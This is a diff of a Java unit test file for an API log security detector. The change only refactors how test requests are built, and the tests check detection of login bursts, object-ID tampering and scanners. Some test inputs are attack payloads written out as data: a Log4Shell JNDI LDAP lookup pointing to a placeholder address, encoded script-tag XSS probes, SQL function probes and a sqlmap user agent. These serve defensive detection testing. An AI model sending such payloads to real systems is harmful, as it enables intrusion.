@@ -5,7 +5,6 @@ import static io.apilog.security.Watched.IMAGE;
 import static io.apilog.security.Watched.LOGIN;
 import static io.apilog.security.Watched.QUERY;
 import static io.apilog.security.Watched.USER;
-import static io.apilog.security.Watched.from;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import io.apilog.part.SourceNames;
@@ -31,7 +30,7 @@ class SecurityPartTest {
     private final Watched log = new Watched();
 
     private static Asking refused(double second) {
-        return from(GUESSER, second)
+        return Watched.from(GUESSER, second)
                 .target("/login")
                 .endpoint(LOGIN)
                 .method(HttpMethod.POST)
@@ -39,7 +38,10 @@ class SecurityPartTest {
     }
 
     private static Asking missing(String client, double second, String path) {
-        return from(client, second).target(path).endpoint(Endpoint.UNMATCHED).answered(404);
+        return Watched.from(client, second)
+                .target(path)
+                .endpoint(Endpoint.UNMATCHED)
+                .answered(404);
     }
 
     @Nested
@@ -76,7 +78,7 @@ class SecurityPartTest {
         void a_page_whose_token_has_expired_is_refused_at_many_endpoints_at_once_and_is_none() {
             for (int i = 0; i < 20; i++) {
                 Endpoint endpoint = new Endpoint(10 + i, "/api/part" + i, io.apilog.request.Rule.PATH);
-                log.see(from(GUESSER, 0.01 * i)
+                log.see(Watched.from(GUESSER, 0.01 * i)
                         .target("/api/part" + i)
                         .endpoint(endpoint)
                         .answered(401));
@@ -86,7 +88,8 @@ class SecurityPartTest {
 
         @Test
         void one_that_polls_where_it_was_let_in_before_is_none() {
-            Asking polling = from(GUESSER, 0).target("/graphql").endpoint(QUERY).method(HttpMethod.POST);
+            Asking polling =
+                    Watched.from(GUESSER, 0).target("/graphql").endpoint(QUERY).method(HttpMethod.POST);
             log.see(polling);
             for (int i = 1; i < 600; i++) {
                 log.see(polling.atSecond(Watched.NOW + 6 * i).answered(401));
@@ -97,8 +100,10 @@ class SecurityPartTest {
         @Test
         void an_office_behind_one_address_mostly_gets_in_and_is_none() {
             for (int i = 0; i < 300; i++) {
-                Asking asking =
-                        from(GUESSER, i).target("/api/session").endpoint(LOGIN).method(HttpMethod.PUT);
+                Asking asking = Watched.from(GUESSER, i)
+                        .target("/api/session")
+                        .endpoint(LOGIN)
+                        .method(HttpMethod.PUT);
                 log.see(asking.answered(i % 3 == 0 ? 401 : 200));
             }
             assertThat(log.events()).isEmpty();
@@ -107,7 +112,10 @@ class SecurityPartTest {
         @Test
         void pictures_that_other_sites_may_not_show_are_none() {
             for (int i = 0; i < 50; i++) {
-                log.see(from(GUESSER, i).target("/image/" + i).endpoint(IMAGE).answered(403));
+                log.see(Watched.from(GUESSER, i)
+                        .target("/image/" + i)
+                        .endpoint(IMAGE)
+                        .answered(403));
             }
             assertThat(log.events()).isEmpty();
         }
@@ -128,7 +136,9 @@ class SecurityPartTest {
             for (int i = 0; i < 100; i++) {
                 log.see(refused(2 * i).answered(302));
                 for (int page = 0; page < 4; page++) {
-                    log.see(from(GUESSER, 2 * i + 0.4 * page).target("/").endpoint(HOME));
+                    log.see(Watched.from(GUESSER, 2 * i + 0.4 * page)
+                            .target("/")
+                            .endpoint(HOME));
                 }
             }
             assertThat(log.events()).isEmpty();
@@ -140,8 +150,10 @@ class SecurityPartTest {
                     5, 5, 10, 3, 50, 100, true, Duration.ofSeconds(10), List.of("/graphql"), false);
             Watched configured = new Watched(settings);
             for (int i = 0; i < 8; i++) {
-                configured.see(
-                        from(GUESSER, i).target("/graphql").endpoint(QUERY).method(HttpMethod.POST));
+                configured.see(Watched.from(GUESSER, i)
+                        .target("/graphql")
+                        .endpoint(QUERY)
+                        .method(HttpMethod.POST));
             }
             assertThat(configured.events()).containsEntry("login_burst", 1);
         }
@@ -177,8 +189,8 @@ class SecurityPartTest {
         void a_visitor_of_a_site_with_broken_links_is_none() {
             for (int i = 0; i < 200; i++) {
                 log.see(missing(GUESSER, i, "/old/" + i));
-                log.see(from(GUESSER, i + 0.3).target("/").endpoint(HOME));
-                log.see(from(GUESSER, i + 0.6).target("/").endpoint(HOME));
+                log.see(Watched.from(GUESSER, i + 0.3).target("/").endpoint(HOME));
+                log.see(Watched.from(GUESSER, i + 0.6).target("/").endpoint(HOME));
             }
             assertThat(log.events()).isEmpty();
         }
@@ -194,7 +206,8 @@ class SecurityPartTest {
         @Test
         void lines_that_are_no_request_are_one_too() {
             for (int i = 0; i < 12; i++) {
-                Asking asking = from(GUESSER, 0).endpoint(Endpoint.MALFORMED).answered(400);
+                Asking asking =
+                        Watched.from(GUESSER, 0).endpoint(Endpoint.MALFORMED).answered(400);
                 byte[] rubbish = {3, (byte) i, 7};
                 asking.request().record().malformed.set(rubbish, 0, rubbish.length);
                 log.see(asking);
@@ -208,20 +221,22 @@ class SecurityPartTest {
         private void learn(Endpoint endpoint, int objects) {
             for (int client = 0; client < 60; client++) {
                 for (int object = 0; object < objects; object++) {
-                    log.see(from("192.0.2." + client, 60 * (client % 7) + 0.1 * object)
+                    log.see(Watched.from("192.0.2." + client, 60 * (client % 7) + 0.1 * object)
                             .target("/x/" + client + "-" + object)
                             .endpoint(endpoint));
                 }
             }
             for (int client = 0; client < 60; client++) {
-                log.see(from("192.0.2." + client, 600).target("/").endpoint(HOME));
-                log.see(from("192.0.2." + client, 660).target("/x/" + client).endpoint(endpoint));
+                log.see(Watched.from("192.0.2." + client, 600).target("/").endpoint(HOME));
+                log.see(Watched.from("192.0.2." + client, 660)
+                        .target("/x/" + client)
+                        .endpoint(endpoint));
             }
         }
 
         private void ask(Endpoint endpoint, int objects) {
             for (int object = 0; object < objects; object++) {
-                log.see(from(GUESSER, 720 + 0.1 * object)
+                log.see(Watched.from(GUESSER, 720 + 0.1 * object)
                         .target("/users/" + object)
                         .endpoint(endpoint));
             }
@@ -237,7 +252,7 @@ class SecurityPartTest {
         @Test
         void who_names_another_object_in_the_query_than_in_the_path_is_one() {
             for (int i = 0; i < 3; i++) {
-                log.see(from(GUESSER, i)
+                log.see(Watched.from(GUESSER, i)
                         .target("/users/17?fields=name&User_Id=" + (18 + i))
                         .endpoint(USER));
             }
@@ -247,12 +262,16 @@ class SecurityPartTest {
         @Test
         void who_names_the_same_object_twice_or_one_of_another_kind_is_none() {
             for (int i = 0; i < 20; i++) {
-                log.see(from(GUESSER, i).target("/users/" + i + "?user_id=" + i).endpoint(USER));
-                log.see(from(GUESSER, i)
+                log.see(Watched.from(GUESSER, i)
+                        .target("/users/" + i + "?user_id=" + i)
+                        .endpoint(USER));
+                log.see(Watched.from(GUESSER, i)
                         .target("/users/17?order_id=" + i + "&id=" + i)
                         .endpoint(USER));
-                log.see(from(GUESSER, i).target("/users/17?user_id=&user_id=me").endpoint(USER));
-                log.see(from(GUESSER, i)
+                log.see(Watched.from(GUESSER, i)
+                        .target("/users/17?user_id=&user_id=me")
+                        .endpoint(USER));
+                log.see(Watched.from(GUESSER, i)
                         .target("/users/17?user_id=" + i)
                         .endpoint(USER)
                         .answered(403));
@@ -264,11 +283,13 @@ class SecurityPartTest {
         void many_people_behind_one_address_who_ask_for_other_things_besides_are_none() {
             learn(USER, 2);
             for (int object = 0; object < 100; object++) {
-                log.see(from(GUESSER, 720 + 0.5 * object)
+                log.see(Watched.from(GUESSER, 720 + 0.5 * object)
                         .target("/users/" + object)
                         .endpoint(USER));
                 for (int page = 0; page < 3; page++) {
-                    log.see(from(GUESSER, 720 + 0.5 * object).target("/").endpoint(HOME));
+                    log.see(Watched.from(GUESSER, 720 + 0.5 * object)
+                            .target("/")
+                            .endpoint(HOME));
                 }
             }
             assertThat(log.events()).isEmpty();
@@ -291,7 +312,7 @@ class SecurityPartTest {
         void a_crawler_that_says_so_is_none() {
             learn(USER, 2);
             for (int object = 0; object < 200; object++) {
-                log.see(from(GUESSER, 720 + 0.1 * object)
+                log.see(Watched.from(GUESSER, 720 + 0.1 * object)
                         .target("/users/" + object)
                         .endpoint(USER)
                         .agent("Mozilla/5.0 (compatible; Googlebot/2.1)"));
@@ -312,7 +333,7 @@ class SecurityPartTest {
     class AttackPatterns {
         @Test
         void one_request_that_says_it_beyond_doubt_is_an_event() {
-            log.see(from(GUESSER, 0)
+            log.see(Watched.from(GUESSER, 0)
                     .target("/?x=$%7Bjndi:ldap://192.0.2.9/a%7D")
                     .endpoint(HOME));
             assertThat(log.events()).containsOnly(Map.entry("attack_pattern", 1));
@@ -321,11 +342,11 @@ class SecurityPartTest {
         @Test
         void three_different_ones_that_may_are_an_event_and_the_same_one_thrice_is_none() {
             for (int i = 0; i < 3; i++) {
-                log.see(from(GUESSER, i).target("/?q=%3Cscript%3E").endpoint(HOME));
+                log.see(Watched.from(GUESSER, i).target("/?q=%3Cscript%3E").endpoint(HOME));
             }
             assertThat(log.events()).isEmpty();
-            log.see(from(GUESSER, 4).target("/?q=%3Cscript%3E1").endpoint(HOME));
-            log.see(from(GUESSER, 5).target("/?q=%3Cscript%3E2").endpoint(HOME));
+            log.see(Watched.from(GUESSER, 4).target("/?q=%3Cscript%3E1").endpoint(HOME));
+            log.see(Watched.from(GUESSER, 5).target("/?q=%3Cscript%3E2").endpoint(HOME));
             assertThat(log.events()).containsOnly(Map.entry("attack_pattern", 1));
             assertThat(log.counts("apilog_attack_requests_total")).containsOnly(Map.entry("xss", 5));
         }
@@ -333,11 +354,13 @@ class SecurityPartTest {
         @Test
         void functions_of_databases_count_only_where_they_are_refused_and_are_many() {
             for (int i = 0; i < 40; i++) {
-                log.see(from(GUESSER, i).target("/?f=substring(Name," + i + ")").endpoint(HOME));
+                log.see(Watched.from(GUESSER, i)
+                        .target("/?f=substring(Name," + i + ")")
+                        .endpoint(HOME));
             }
             assertThat(log.events()).isEmpty();
             for (int i = 0; i < 40; i++) {
-                log.see(from(GUESSER, 40 + 0.1 * i)
+                log.see(Watched.from(GUESSER, 40 + 0.1 * i)
                         .target("/?f=md5(" + i + ")")
                         .endpoint(HOME)
                         .answered(500));
@@ -348,7 +371,10 @@ class SecurityPartTest {
 
         @Test
         void a_program_that_calls_itself_a_scanner_is_an_event_at_once() {
-            log.see(from(GUESSER, 0).target("/").endpoint(HOME).agent("sqlmap/1.8#stable (https://sqlmap.org)"));
+            log.see(Watched.from(GUESSER, 0)
+                    .target("/")
+                    .endpoint(HOME)
+                    .agent("sqlmap/1.8#stable (https://sqlmap.org)"));
             assertThat(log.events()).containsOnly(Map.entry("scanner_agent", 1));
             assertThat(log.counts("apilog_attack_requests_total")).containsOnly(Map.entry("scanner", 1));
         }
@@ -360,7 +386,7 @@ class SecurityPartTest {
 
         private void ask(String address, double begin, int requests) {
             for (int i = 0; i < requests; i++) {
-                log.see(from(address, begin + i)
+                log.see(Watched.from(address, begin + i)
                         .target("/users/1")
                         .endpoint(USER)
                         .user("billing"));
@@ -399,7 +425,7 @@ class SecurityPartTest {
             ask("192.0.2.1", 0, 90);
             ask("192.0.2.1", DAY, 90);
             for (int i = 0; i < 3; i++) {
-                log.see(from("203.0.113.5", DAY + 100 + i)
+                log.see(Watched.from("203.0.113.5", DAY + 100 + i)
                         .target("/users/1")
                         .endpoint(USER)
                         .user("billing")
@@ -497,11 +523,15 @@ class SecurityPartTest {
             Watched counting = new Watched(
                     new SecuritySettings(5, 5, 10, 3, 50, 100, true, Duration.ofSeconds(10), List.of(), true));
             for (int i = 0; i < 60; i++) {
-                counting.see(from(GUESSER, i).target("/users/1").endpoint(USER).user("alice"));
-                counting.see(from(GUESSER, i).target("/").endpoint(HOME));
+                counting.see(Watched.from(GUESSER, i)
+                        .target("/users/1")
+                        .endpoint(USER)
+                        .user("alice"));
+                counting.see(Watched.from(GUESSER, i).target("/").endpoint(HOME));
             }
-            counting.see(from(GUESSER, 61).target("/users/1").endpoint(USER));
-            counting.see(from(GUESSER, 62).target("/users/1").endpoint(USER).answered(401));
+            counting.see(Watched.from(GUESSER, 61).target("/users/1").endpoint(USER));
+            counting.see(
+                    Watched.from(GUESSER, 62).target("/users/1").endpoint(USER).answered(401));
             assertThat(counting.counts("apilog_unauthenticated_success_total"))
                     .containsOnly(Map.entry("/users/{id}", 1));
         }
@@ -513,7 +543,7 @@ class SecurityPartTest {
         byte[] likely = "/%?&=+.user_id0123456789<>'\"${}\\;|u*!-".getBytes(StandardCharsets.US_ASCII);
         Endpoint[] endpoints = {HOME, USER, IMAGE, LOGIN, Endpoint.UNMATCHED, Endpoint.OTHER, Endpoint.MALFORMED};
         for (int i = 0; i < 50_000; i++) {
-            Request request = from(GUESSER, 0).request();
+            Request request = Watched.from(GUESSER, 0).request();
             AccessRecord record = request.record();
             for (Text text : List.of(record.target, record.malformed, record.userAgent, record.referer, record.user)) {
                 byte[] bytes = new byte[random.nextInt(60)];
